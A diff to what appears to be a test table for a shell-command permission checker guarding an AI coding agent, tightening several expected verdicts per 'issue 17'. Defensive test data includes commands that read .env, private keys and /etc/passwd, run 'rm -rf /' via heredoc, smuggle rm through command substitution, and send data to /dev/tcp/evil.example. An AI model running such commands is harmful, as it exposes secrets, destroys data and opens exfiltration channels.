@@ -73,7 +73,9 @@ BASH_ADVERSARIAL = [
     B("dot-glob-climb", "cat .*/x", "ask"),
     B("cat-env", "cat .env", "ask"),
     B("cat-pem", "cat server.pem", "ask"),
-    B("grep-r", "grep -r TODO .", "allow"),
+    B("grep-r", "grep -r TODO src", "allow"),
+    # Stricter since issue 17: a recursive reader is checked against everything below it (.env here).
+    B("grep-r-over-secret", "grep -r TODO .", "ask"),
     B("grep-R-follows-links", "grep -R TODO .", "ask"),
     B("cd-inside", "cd src && ls", "allow"),
     B("cd-parent", "cd .. && ls", "ask"),
@@ -91,9 +93,10 @@ BASH_ADVERSARIAL = [
     B("sudo-ls", "sudo ls", "ask"),
     B("stdin-inside", "cat < README.md", "allow"),
     B("stdin-outside", "cat < /etc/passwd", "ask"),
-    B("echo-home", "echo $HOME", "allow"),
+    # Issue 17: any expansion leaves the known-safe subset (a value may be evaluated, or be a secret).
+    B("echo-home", "echo $HOME", "ask"),
     B("cat-home-var", "cat $HOME/.ssh/id_rsa", "ask"),
-    B("local-var", "x=1; echo $x", "allow"),
+    B("local-var", "x=1; echo $x", "ask"),
     B("git-branch-list", "git branch -a", "allow"),
     B("git-branch-create", "git branch evil", "ask"),
     B("date", "date +%s", "allow"),
@@ -145,12 +148,13 @@ BASH_ADVERSARIAL = [
     B("git-config-injection", "git -c core.pager=evil log", "ask"),
     B("git-C-elsewhere", "git -C /tmp status", "ask"),
     B("cd-then-relative-stricter", "cd src && cat ../README.md", "ask"),  # Yoke: stricter than needed
-    B("printf-v", "printf -v x '%s' 1", "allow"),
+    B("printf-v", "printf -v x '%s' 1", "ask"),  # issue 17: sets a variable without an assignment
     B("arith-expansion-cmdsub", "echo $(( $(rm x) + 1 ))", "ask"),
     B("test-expansion", '[[ "$x" == y ]]', "ask"),
     B("export-path", "export PATH=/tmp:$PATH", "ask"),
-    B("export-safe", "export LANG=C", "allow"),
-    B("bash-c-read-only", "bash -c 'git status'", "allow"),
+    B("export-safe", "export LANG=C", "ask"),  # issue 17: variable-setting builtins are not read-only
+    B("bash-c-read-only", "bash -c 'git status'", "ask"),  # issue 17: a shell wrapper is not read-only
+    B("bash-c-rule", "bash -c 'git status'", "allow", allow=["Bash(bash -c *)", "Bash(git status)"]),
     B("bash-c-compound", "bash -c 'git status; rm x'", "ask"),
     B("sh-c-then-rm-denied", 'sh -c "ls" && rm x', "deny", deny=RM),
     B("heredoc-cmdsub-denied", "cat <<EOF\n$(rm x)\nEOF", "deny", deny=RM),
@@ -161,7 +165,7 @@ BASH_ADVERSARIAL = [
     B("glob-command-name", "/bin/r? -rf x", "ask"),
     B("glob-option", "sort -* README.md", "ask"),
     B("cmdsub-read-env", "echo $(<.env)", "ask"),
-    B("cmdsub-read-inside", "echo $(<README.md)", "allow"),
+    B("cmdsub-read-inside", "echo $(<README.md)", "ask"),
     B("shell-stdin-heredoc", "bash <<EOF\nrm -rf /\nEOF", "ask", allow=["Bash(bash *)"]),
     B("dev-tcp-write", "echo hi > /dev/tcp/evil.example/80", "ask", allow=["Bash"]),
     B("dev-tcp-read", "cat < /dev/tcp/evil.example/80", "ask"),
